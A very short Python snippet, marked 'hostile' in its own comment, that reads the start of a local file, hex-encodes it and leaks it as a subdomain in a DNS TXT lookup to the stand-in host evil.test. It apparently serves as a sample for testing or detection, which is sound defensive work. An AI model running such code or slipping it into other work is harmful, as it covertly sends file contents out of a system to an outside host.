# hostile: dnspython TXT query carrying data in the name
import dns.resolver

secret = open("/work/notes.txt").read(40).encode().hex()
dns.resolver.resolve(secret + ".evil.test", "TXT")
